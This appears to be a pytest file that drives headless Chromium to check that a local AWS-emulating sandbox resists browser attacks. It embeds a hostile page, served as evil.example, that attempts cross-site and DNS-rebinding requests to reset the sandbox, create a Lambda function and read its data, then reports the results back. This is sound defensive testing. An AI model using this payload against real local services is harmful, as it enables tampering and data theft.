"""A page in a real Chromium tries what `test_browser` sends by hand: ``make browser``.

Not a part of ``make test``, which runs where no browser is. The page is served for a name that a
resolver rule of Chromium gives the address 127.0.0.2. There a relay answers for the page's own
files, and hands everything else on to the sandbox's port of 127.0.0.1: that is what a name whose
address has changed since the page was loaded does to a browser.
"""

from __future__ import annotations

import json
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from tests.hostile.test_browser import CROSS_SITE, EMBEDDED, REBOUND, REBOUND_GET
from tfgen.aws.session import Aws
from tfgen.sandbox.lifecycle import Running, start, stop

REGION = "eu-west-2"
NAME = "evil.example"
PATIENCE = 120.0

PAGE = """<!doctype html><title>A page</title><script>
const port = location.port, here = `http://127.0.0.1:${port}`
const scope = "x/20260101/eu-west-2/lambda/aws4_request"
const signed = {Authorization: `AWS4-HMAC-SHA256 Credential=${scope}, Signature=x`}
const made = JSON.stringify({FunctionName: "evil", Runtime: "python3.13", Handler: "a.b",
  Role: "arn:aws:iam::123456789012:role/app", Code: {ZipFile: ""}})
const functions = "/2015-03-31/functions", fail = "/_tfgen/regions/eu-west-2/fail"
const post = {method: "POST"}, blind = {method: "POST", mode: "no-cors", body: made}
const create = {method: "POST", headers: signed, body: made}
const guess = {method: "POST", headers: {"X-Tfgen": "1", "X-Tfgen-Token": "guessed"}}
const tries = {
  "cross-site reset": [`${here}/moto-api/reset`, blind],
  "cross-site function": [here + functions, blind],
  "cross-site reading": [`${here}/moto-api/data.json`, {}],
  "cross-site signed": [here + functions, create],
  "cross-site control": [here + fail, blind],
  "cross-site control with a header": [here + fail, guess],
  "rebound reset": ["/moto-api/reset", post],
  "rebound reading": ["/moto-api/data.json", {}],
  "rebound function": [functions, create],
  "rebound listing": [`${functions}/`, {headers: signed}],
  "rebound control": [fail, guess],
}
const load = (kind, url) => new Promise((done) => {
  const element = document.createElement(kind)
  element.onload = () => done("loaded")
  element.onerror = () => done("error")
  element.src = url
  document.documentElement.append(element)
})
const submit = () => new Promise((done) => {
  const frame = document.createElement("iframe"), form = document.createElement("form")
  Object.assign(frame, {name: "frame"})
  Object.assign(form, {target: "frame", method: "POST", action: `${here}/moto-api/reset`})
  document.documentElement.append(frame, form)
  frame.onload = () => done("submitted")
  form.submit()
})
const run = async () => {
  const told = {}
  for (const [name, [url, options]] of Object.entries(tries)) {
    try {
      const answer = await fetch(url, options)
      told[name] = [answer.type, answer.status, (await answer.text()).slice(0, 200)]
    } catch (error) { told[name] = ["refused", 0, String(error)] }
  }
  const other = `http://127.0.0.1:${location.search.slice(1)}/`
  await fetch(other, blind)
  await load("img", other)
  told["image"] = [await load("img", `${here}/moto-api/data.json`), 0, ""]
  told["form"] = [await submit(), 0, ""]
  await fetch("/report", {method: "POST", body: JSON.stringify(told)})
}
run()
</script>"""


@dataclass
class Relay:
    """Answers for the name of the page.

    Attributes:
        sandbox: the port of 127.0.0.1 that the name leads to after the page is loaded.
        told: what the page reports.
        requests: what was handed on.
    """

    sandbox: int
    told: dict[str, Any] = field(default_factory=dict)
    reported: threading.Event = field(default_factory=threading.Event)
    requests: list[bytes] = field(default_factory=list)

    def __post_init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.2", self.sandbox))
        threading.Thread(target=self._serve, daemon=True).start()

    def close(self) -> None:
        self._listener.close()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._answer, args=(client,), daemon=True).start()

    def _answer(self, client: socket.socket) -> None:
        with client:
            request = whole(client)
            if request.startswith(b"GET /page.html?"):
                client.sendall(answered(PAGE.encode()))
            elif request.startswith(b"POST /report "):
                self.told |= json.loads(request.partition(b"\r\n\r\n")[2])
                client.sendall(answered(b""))
                self.reported.set()
            elif request:
                self.requests.append(request)
                client.sendall(relayed(self.sandbox, request))


class Recorder:
    """A server of another port of 127.0.0.1, to see what a page sends there."""

    def __init__(self) -> None:
        self.requests: list[bytes] = []
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        threading.Thread(target=self._serve, daemon=True).start()

    def close(self) -> None:
        self._listener.close()

    def _serve(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            with client:
                self.requests.append(whole(client))
                client.sendall(answered(b""))


def whole(client: socket.socket) -> bytes:
    """Returns a request."""
    request = b""
    while b"\r\n\r\n" not in request:
        part = client.recv(65536)
        if not part:
            return b""
        request += part
    head, _, body = request.partition(b"\r\n\r\n")
    length = next(
        (
            int(line.partition(b":")[2])
            for line in head.split(b"\r\n")
            if line.lower().startswith(b"content-length:")
        ),
        0,
    )
    while len(body) < length:
        body += client.recv(65536)
    return head + b"\r\n\r\n" + body


def answered(body: bytes) -> bytes:
    """Returns an answer that holds a page."""
    head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(body)}\r\n"
    return head.encode() + b"Connection: close\r\n\r\n" + body


def relayed(port: int, request: bytes) -> bytes:
    """Sends a request to the sandbox as it is, and returns the answer."""
    with socket.create_connection(("127.0.0.1", port)) as server:
        server.sendall(request)
        server.shutdown(socket.SHUT_WR)
        answer = b""
        while part := server.recv(65536):
            answer += part
    return answer


@pytest.fixture
def sandbox(tmp_path: Path) -> Iterator[Running]:
    (tmp_path / "project").mkdir()
    yield start(tmp_path / "project")
    stop(tmp_path / "project")


def test_a_page_in_chromium_gets_nothing(sandbox: Running, tmp_path: Path) -> None:
    aws = Aws(sandbox.endpoint)
    aws.client("logs", REGION).create_log_group(logGroupName="/keep")
    relay, recorder = Relay(sandbox.port), Recorder()
    told = visit(relay, recorder, tmp_path / "browser")
    assert len(told) == 13
    for name, (kind, status, _) in told.items():
        if name.startswith("rebound"):
            assert (kind, status) == ("basic", 403), name
        elif name.startswith("cross-site"):
            assert kind in {"opaque", "refused"}, name
    groups = aws.client("logs", REGION).describe_log_groups()["logGroups"]
    assert [each["logGroupName"] for each in groups] == ["/keep"]
    assert aws.client("lambda", REGION).list_functions()["Functions"] == []
    log = (sandbox.scratch.parent / "server.log").read_text("utf-8")
    # Each of them has reached the sandbox, unless the browser has asked before.
    for request in ("POST /moto-api/reset", "POST /2015-03-31/functions", "GET /moto-api/data"):
        assert log.count(f'"{request}') >= 2
    assert "POST /_tfgen/regions/eu-west-2/fail" in log
    hold_headers(relay, recorder)


def hold_headers(relay: Relay, recorder: Recorder) -> None:
    """Holds what `test_browser` sends by hand against what Chromium has sent."""
    found = {each.split()[0]: headers_of(each) for each in recorder.requests}
    for method, wanted in ((b"POST", CROSS_SITE), (b"GET", EMBEDDED)):
        assert wanted.keys() <= found[method].keys()
        assert found[method]["Sec-Fetch-Site"] == wanted["Sec-Fetch-Site"]
    assert found[b"POST"]["Origin"] == f"http://{NAME}:{relay.sandbox}"
    assert "Origin" not in found[b"GET"]
    rebound = {each.split()[0]: headers_of(each) for each in relay.requests}
    for method, wanted in ((b"POST", REBOUND), (b"GET", REBOUND_GET)):
        for name in wanted.keys() - {"Authorization", "Referer"}:
            assert rebound[method][name] == wanted[name].replace("{port}", str(relay.sandbox))
    assert "Origin" not in rebound[b"GET"]


def headers_of(request: bytes) -> Mapping[str, str]:
    """Returns the headers of a request."""
    lines = request.partition(b"\r\n\r\n")[0].decode("latin-1").split("\r\n")[1:]
    return {name: value for name, _, value in (line.partition(": ") for line in lines)}


def visit(relay: Relay, recorder: Recorder, profile: Path) -> Mapping[str, Any]:
    """Opens the page, and returns what it reports."""
    program = shutil.which("chromium") or shutil.which("google-chrome")
    assert program is not None, "Chromium is not installed: apt-get install chromium"
    command = [
        *(program, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"),
        *("--no-first-run", "--disable-background-networking", f"--user-data-dir={profile}"),
        f"--host-resolver-rules=MAP {NAME} 127.0.0.2",
        "--proxy-server=direct://",
        *("--remote-debugging-port=0", f"http://{NAME}:{relay.sandbox}/page.html?{recorder.port}"),
    ]
    with subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE) as browser:
        try:
            assert relay.reported.wait(PATIENCE), "the page does not report"
        finally:
            browser.terminate()
            relay.close()
            recorder.close()
    return relay.told
